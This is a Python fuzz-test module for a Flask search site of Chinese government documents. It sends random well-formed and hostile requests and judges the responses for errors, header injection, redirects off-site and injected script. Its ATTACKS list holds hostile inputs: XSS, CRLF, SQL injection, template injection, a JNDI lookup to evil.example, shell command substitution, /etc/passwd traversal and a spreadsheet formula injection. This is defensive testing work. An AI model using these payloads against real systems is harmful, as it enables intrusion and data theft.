"""Random requests, half of them well meant and half made to break something, and their judge."""

from __future__ import annotations

import random
import re
import time
import urllib.parse
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from functools import cache
from typing import Any

from flask import Flask
from flask.testing import FlaskClient
from lxml import html
from werkzeug.test import TestResponse
from werkzeug.wrappers import Response

from tests.contract.documents import ISSUERS, KINDS, REGIONS, TOPICS, WORDS
from tests.routes import addresses

OWN_ORIGIN = "http://localhost"
SCRIPT_TYPES = {"application/ld+json", "application/json"}
"""Types of script elements that a browser does not run."""
ADDRESS_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "poster")

ATTACKS = (
    *("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "'-alert(1)-'", "</title><b>"),
    *("javascript:alert(1)", "//evil.example/", "https://evil.example", "/\\evil.example", "\\\\a"),
    *("a\r\nSet-Cookie: a=b", "a\nLocation: //evil.example", "%0d%0aX-Evil: 1", "\x00", "a\x00b"),
    *("' OR 1=1 --", "; DROP TABLE x", "{{7*7}}", "${jndi:ldap://evil.example}", "$(id)", "`id`"),
    *(
        "../../../../etc/passwd",
        "..%2f..%2fetc",
        "file:///etc/passwd",
        "=cmd|' /C calc'!A0",
        "%s%n",
    ),
    *(
        "\ud800",
        "\udfff通知",
        "\u202e通知",
        "e\u0301" * 50,
        "👨‍👩‍👧‍👦",
        "𠀀𠀁",
        "\ufeff通知",
        "\u200b",
    ),
    *(
        "9" * 400,
        "-1",
        "1e309",
        "NaN",
        "0x10",
        "１２３",
        "99999999999999999999",
        "null",
        "true",
        "[]",
    ),
    *("(" * 300, ")" * 300, '"' * 99, "“" * 99, "NOT " * 99, "/s " * 99, "* " * 99, "通知 " * 99),
    *("第" * 499, "的" * 501, "a" * 5000, "*" * 40, "？" * 40, "a*b*c*", "标题:" * 60, ":" * 60),
)
OPERATORS = (
    *(" ", " ", " ", " AND ", " OR ", " NOT ", " 与 ", " 或 ", " 非 ", " | ", " -", "、", "，"),
    *(" /s ", " /p ", " /5 ", " /200 ", " /0 ", " +3 ", "(", ")", "（", "）", '"', "“", "”", "~"),
)
FIELDS = ("标题:", "正文:", "文号:", "机关:", "主题:", "年份:", "地区:", "文种:", "来源:", "没有:")
NUMBERS = (
    "云政办〔2018〕3号",
    "国办发〔2019〕",
    "4-5号",
    "第三十三条",
    "令第707号",
    "〔２０１９〕５号",
)
EVERYDAY = (
    "遛狗",
    "yangquan",
    "gjj",
    "养老保险转一",
    "补贴多少钱",
    "2019年",
    "8月",
    "狗证在哪里办",
)
DAYS = (
    "2019",
    "2019-08",
    "2019-08-26",
    "2019-02-30",
    "0000-00-00",
    "2019/8/1",
    "9999-12-31",
    "今天",
)
CHOICES: dict[str, Sequence[str]] = {
    "scope": ("all", "title", "body", "number", "attachments"),
    "sort": ("relevance", "newest", "oldest", "written_newest", "effective_oldest"),
    "match": ("ranked", "all"),
    "page": ("1", "2", "3", "1000", "10000"),
    "size": ("1", "10", "100", "101", "0"),
    "fold": ("1", "0"),
    "exact": ("1", "0"),
    "unit": ("year", "month", "day"),
    "facet": ("kind", "issuer", "topic", "year", "region"),
    "kind": KINDS,
    "issuer": ISSUERS,
    "region": REGIONS,
    "topic": TOPICS,
    "year": ("2018", "2019", "unstated"),
    "validity": ("有效", "废止", "失效", "未标注"),
    "article": ("33", "133-1", "0", "x"),
    "format": ("csv", "json", "xlsx"),
}
"""Values that parameters take, by name; those of others are texts, days or ids."""
OF_DAYS = ("since", "until", "asof", "written_since", "published_until", "effective_since")
OF_TEXT = ("q", "q", "q", "q", "within", "text", "value", "terms")
OF_IDS = ("cites", "same", "id", "document", "left", "right", "cursor", "code", "days", "organ")


@dataclass(frozen=True)
class HostileRequest:
    """A request as the test client sends it."""

    method: str
    path: str
    parameters: tuple[tuple[str, str], ...]

    def send(self, client: FlaskClient) -> TestResponse:
        """Ask; a request by POST carries its parameters as a form."""
        encoded = urllib.parse.urlencode(self.parameters, errors="surrogatepass")
        if self.method == "POST":
            form = "application/x-www-form-urlencoded"
            return client.post(self.path, data=encoded.encode(), content_type=form)
        return client.get(f"{self.path}?{encoded}")


def hostile_requests(app: Flask, ids: Sequence[str], seed: int) -> Iterator[HostileRequest]:
    """Requests without end; `ids` are those of documents. The same seed gives the same ones."""
    chance = random.Random(seed)
    paths = sorted(
        {
            (address.method, address.path)
            for id in ids[:3]
            for address in addresses(app, id)
            if address.endpoint != "static"
        }
    )
    search = [("GET", path) for path in ("/search", "/api/v1/search", "/trends", "/api/v1/suggest")]
    while True:
        method, path = chance.choice(search if chance.random() < 0.6 else paths)
        own = list(_documented(app, path)) or (*OF_TEXT, *OF_DAYS, *OF_IDS, *CHOICES)
        names = dict.fromkeys(chance.choices(own, k=chance.choice((0, 0, 1, 1, 2, 4))))
        if not path.startswith("/api") or "q" in own:
            names = {"q": None, **names}
        if chance.random() < 0.01:
            names |= {"unknown": None}
            path += urllib.parse.quote(chance.choice(ATTACKS), errors="surrogatepass")
        given = tuple((name, _value(name, ids, chance)) for name in names)
        yield HostileRequest(method, path, given)


@cache
def _documented(app: Flask, path: str) -> tuple[str, ...]:
    """The parameters of an address of the API, as its description names them."""
    described = app.test_client().get("/api/v1/openapi.json").json
    assert described is not None
    for template, methods in described["paths"].items():
        pattern = re.sub(r"\\\{\w+\\\}", "[^/]+", re.escape(template))
        if re.fullmatch(f"(/api/v1)?{pattern}", path):
            operation = methods.get("get", {})
            return tuple(p["name"] for p in operation.get("parameters", ()) if p["in"] == "query")
    return ()


def faults(
    request: HostileRequest, client: FlaskClient, most_seconds: float
) -> tuple[int, list[str]]:
    """The status of the answer, and what is wrong with it in words."""
    begun = time.thread_time()
    with request.send(client) as answer:
        body = answer.get_data()
        took = time.thread_time() - begun
        found = list(_faults(answer, body))
        if took > most_seconds:
            found.append(f"took {took:.1f} s of CPU time")
        return answer.status_code, found


def _faults(answer: Response, body: bytes) -> Iterator[str]:
    status = answer.status_code
    if status >= 500 and status != 503:
        yield f"status {status}"
    if status == 503 and not answer.headers.get("Retry-After") and "过于费时" not in body.decode():
        yield "503 that does not say what to do"
    for name, value in answer.headers:
        if name.lower() in ("set-cookie", "x-evil") or "\r" in value or "\n" in value:
            yield f"header {name}: {value!r}"
    place = answer.headers.get("Location", "/")
    whole = urllib.parse.urljoin(OWN_ORIGIN + "/", place)
    if not whole.startswith(OWN_ORIGIN + "/"):
        yield f"leads away to {place}"
    if answer.mimetype == "text/html":
        yield from running_parts(body.decode())


def running_parts(page: str) -> Iterator[str]:
    """What a browser would run of a page, or load from elsewhere, beside the site's own files."""
    for element in html.fromstring(page).iter():
        if not isinstance(element.tag, str):
            continue
        attributes: dict[str, Any] = dict(element.attrib)
        source = attributes.get("src", "")
        run = element.tag == "script" and attributes.get("type") not in SCRIPT_TYPES
        if run and not source.startswith(("/static/", "/embed.js", f"{OWN_ORIGIN}/")):
            yield f"a script {source!r} {element.text!r}"
        if element.tag in ("iframe", "object", "base", "style", "applet"):
            yield f"an element {element.tag}"
        for name, value in attributes.items():
            if name.startswith("on") or name == "style":
                yield f"an attribute {name}={value!r}"
            if name in ADDRESS_ATTRIBUTES and value.strip().lower().startswith(
                ("javascript:", "data:", "vbscript:")
            ):
                yield f"an address {value!r}"


def _value(name: str, ids: Sequence[str], chance: random.Random) -> str:
    if chance.random() < 0.08:
        return chance.choice(ATTACKS)
    if name in CHOICES:
        return chance.choice(CHOICES[name])
    if name in OF_DAYS:
        return chance.choice(DAYS)
    if name in OF_IDS:
        return chance.choice(ids)
    return _typed(chance)


def _typed(chance: random.Random) -> str:
    """A text as someone types it, or as somebody who tries what happens."""
    pieces = []
    for _ in range(chance.choice((1, 1, 2, 3, 5, 12))):
        if chance.random() < 0.15:
            pieces.append(chance.choice(FIELDS))
        pool = chance.choices((WORDS, NUMBERS, EVERYDAY, ATTACKS), (70, 12, 12, 6))[0]
        pieces.append(chance.choice(pool))
        pieces.append(chance.choice(OPERATORS))
    return "".join(pieces)
